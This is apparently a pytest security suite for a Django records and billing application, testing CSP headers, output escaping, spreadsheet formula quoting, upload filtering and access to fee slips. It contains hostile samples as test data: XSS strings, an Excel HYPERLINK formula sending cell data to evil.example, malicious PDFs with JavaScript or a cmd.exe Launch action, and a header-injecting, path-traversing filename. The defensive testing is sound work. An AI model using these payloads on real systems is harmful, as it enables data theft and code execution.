"""Output encoding and files: a CSP on every page, no inline script, Excel and CSV cells that stay
text, uploads checked by what they contain and served as attachments, slips for their inspector only."""

import datetime
import io
import re
import zlib
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from PIL import Image

from accounts.models import Role
from billing import selectors as billing_selectors
from billing.excel import settlement_workbook
from billing.services import add_tariff
from billing.services.slips import issue_service_fee_slip
from cases.models import Case
from core.downloads import content_disposition
from core.spreadsheets import csv_row
from tests.security.factories import staff

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
PDF_TEMPLATES = {"letters/letter_pdf.html", "billing/slip_pdf.html", "inspections/pdf/report.html"}


# --- Content-Security-Policy ----------------------------------------------------------------------------------


def test_every_page_carries_a_strict_content_security_policy(client, officer):
    client.force_login(officer)
    for path in ("/", "/offices/", "/track/", "/accounts/login/", "/no-such-page/", "/api/v1/districts/"):
        policy = client.get(path)["Content-Security-Policy"]
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        assert directives["script-src"] == "'self'", path
        assert directives["style-src"] == "'self'", path
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"


def test_no_template_has_an_inline_script_style_or_event_handler():
    offenders = []
    for path in TEMPLATES.rglob("*.html"):
        name = str(path.relative_to(TEMPLATES))
        if name in PDF_TEMPLATES:  # rendered to PDF by WeasyPrint, never served as a page
            continue
        text = path.read_text()
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text) or re.search(r"<style\b", text):
            offenders.append((name, "inline script or style element"))
        if re.search(r"\sstyle=|\son[a-z]+=", text):
            offenders.append((name, "style attribute or event handler"))
    assert offenders == []


def test_data_reaches_scripts_only_through_json_script(client, office):
    office.name = "</script><script>alert(1)</script>"
    office.save()
    page = client.get("/offices/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert '<script id="office-markers" type="application/json">' in page
    assert "\\u003C/script\\u003E" in page


def test_the_map_puts_office_names_into_tooltips_as_text():
    script = (Path(__file__).resolve().parents[2] / "static/js/office_map.js").read_text()
    assert ".bindTooltip(marker.name)" not in script
    assert "bindTooltip(textElement(marker.name))" in script and "textContent" in script


# --- spreadsheets -----------------------------------------------------------------------------------------------


class _Office:
    code = "10370001"
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    class district:
        number = 1


def test_the_settlement_workbook_never_writes_a_formula():
    row = {
        "office": _Office,
        "issued_count": 1,
        "issued_rials": 1000,
        "paid_count": 1,
        "collected_rials": 1000,
        "office_share_rials": 100,
    }
    totals = {k: v for k, v in row.items() if k != "office"}
    book = load_workbook(io.BytesIO(settlement_workbook([row], totals, 1404, 7)))
    sheet = book.active
    cell = sheet["B3"]
    assert cell.value == _Office.name
    assert cell.data_type == "s" and cell.quotePrefix
    assert sheet["E3"].data_type == "n"  # amounts stay numbers
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_csv_cells_starting_like_a_formula_are_quoted():
    assert csv_row(["=1+1", "+98", "-x", "@SUM(A1)", "\tcmd", "plain", 12]) == [
        "'=1+1",
        "'+98",
        "'-x",
        "'@SUM(A1)",
        "'\tcmd",
        "plain",
        12,
    ]


def test_no_openpyxl_writer_bypasses_the_safe_cells():
    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in root.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or "node_modules" in path.parts:
            continue
        text = path.read_text()
        if "openpyxl" in text and "Workbook" in text and "append_row" not in text:
            writers.append(str(path.relative_to(root)))
        if re.search(r"\bcsv\.writer\(", text) and "csv_row" not in text:
            writers.append(str(path.relative_to(root)))
    assert writers == [], "write spreadsheet cells through core.spreadsheets"


# --- uploads ------------------------------------------------------------------------------------------------------


def _pdf(*objects, tail=b""):
    body = b"%PDF-1.7\n" + b"".join(objects) + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    return body + tail


def _png(tail=b""):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 200, 30)).save(buffer, format="PNG")
    return buffer.getvalue() + tail


def _jpeg(tail=b""):
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 20, 200)).save(buffer, format="JPEG")
    return buffer.getvalue() + tail


def _objstm(text):
    packed = zlib.compress(text)
    return b"5 0 obj<</Type/ObjStm/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream\n"


CATALOG = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
REFUSED = {
    "javascript": _pdf(CATALOG, b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
    "javascript-hex-escaped": _pdf(CATALOG, b"3 0 obj<</S/Java#53cript/J#53(app.alert(1))>>endobj\n"),
    "open-action": _pdf(b"1 0 obj<</Type/Catalog/OpenAction 3 0 R>>endobj\n"),
    "launch": _pdf(CATALOG, b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
    "embedded-file": _pdf(CATALOG, b"3 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj\n"),
    "javascript-in-object-stream": _pdf(CATALOG, _objstm(b"<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf-html-polyglot": _pdf(
        CATALOG, b"3 0 obj<</Length 40>>stream\n<html><script>alert(1)</script></html>\nendstream\n"
    ),
    "pdf-trailing-html": _pdf(CATALOG, tail=b"<p>hello</p>"),
    "png-trailing-script": _png(b"<script>alert(1)</script>"),
    "jpeg-trailing-data": _jpeg(b"PK\x03\x04 a zip after the image"),
}
ACCEPTED = {
    "plain-pdf": _pdf(CATALOG),
    "pdf-opening-at-a-page": _pdf(b"1 0 obj<</Type/Catalog/OpenAction [3 0 R /Fit]>>endobj\n"),
    "png": _png(),
    "jpeg": _jpeg(),
}


def _upload(api, case_id, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return api.post(
        f"/api/v1/cases/{case_id}/documents/",
        {"kind": "deed", "file": SimpleUploadedFile(name, content, content_type="application/pdf")},
        format="multipart",
    )


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_uploads_with_active_or_hidden_content_are_refused(kind, register, officer_api):
    case = register()
    response = _upload(officer_api, case["id"], f"{kind}.pdf", REFUSED[kind])
    assert response.status_code == 400, (kind, response.content)
    detail = response.json()["detail"]
    assert any("\u0600" <= ch <= "\u06ff" for ch in detail)
    assert not Case.objects.get(pk=case["id"]).documents.exists()


@pytest.mark.parametrize("kind", sorted(ACCEPTED))
def test_ordinary_uploads_are_accepted(kind, register, officer_api):
    case = register()
    response = _upload(officer_api, case["id"], f"{kind}.bin", ACCEPTED[kind])
    assert response.status_code == 201, (kind, response.content)


def test_documents_are_served_as_attachments_with_a_safe_name(register, officer_api, client, officer):
    case = register()
    name = 'سند "مالکیت"\r\nX-Evil: 1;../../etc.pdf'
    document = _upload(officer_api, case["id"], name, ACCEPTED["plain-pdf"]).json()
    client.force_login(officer)
    for url in (
        f"/api/v1/cases/{case['id']}/documents/{document['id']}/file/",
        f"/cases/{case['id']}/documents/{document['id']}/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        disposition = response["Content-Disposition"]
        assert disposition.startswith('attachment; filename="')
        assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition.split("''")[0]
        assert re.match(r'attachment; filename="[A-Za-z0-9._-]+\.pdf"; filename\*=UTF-8\'\'\S+\.pdf$', disposition)
        assert response["X-Content-Type-Options"] == "nosniff"


def test_the_ascii_fallback_name_keeps_the_real_extension():
    assert content_disposition("نقشه.html", "document-7.pdf") == (
        "attachment; filename=\"html.pdf\"; filename*=UTF-8''%D9%86%D9%82%D8%B4%D9%87.html.pdf"
    )
    assert 'filename="deed_scan.pdf"' in content_disposition("deed scan.pdf", "document-7.pdf")
    assert 'filename="document-7.pdf"' in content_disposition("سند.pdf", "document-7.pdf")


# --- fee slips and inspectors ------------------------------------------------------------------------------------


def test_an_inspector_sees_the_slips_of_his_files_only(register, office, client):
    if billing_selectors.tariff_in_force("notary_inquiry") is None:
        today = timezone.localdate()
        add_tariff(
            service="notary_inquiry",
            valid_from=today - datetime.timedelta(days=1),
            municipality_fee_rials=500000,
            counter_fee_rials=200000,
            approval_reference="T-1",
            approved_on=today - datetime.timedelta(days=2),
        )
    inspector = staff(office, role=Role.INSPECTOR)
    mine, other = register(), register()
    Case.objects.filter(pk=mine["id"]).update(inspector=inspector)
    slips = {
        key: issue_service_fee_slip(case=Case.objects.get(pk=c["id"])) for key, c in (("mine", mine), ("other", other))
    }
    assert None not in slips.values()
    client.force_login(inspector)
    assert client.get(f"/billing/slips/{slips['mine'].pk}/").status_code == 200
    assert client.get(f"/billing/slips/{slips['other'].pk}/").status_code == 404
    assert client.get(f"/billing/slips/{slips['other'].pk}/slip.pdf").status_code == 404
    listing = client.get("/billing/slips/").content.decode()
    assert slips["other"].bill_id not in listing
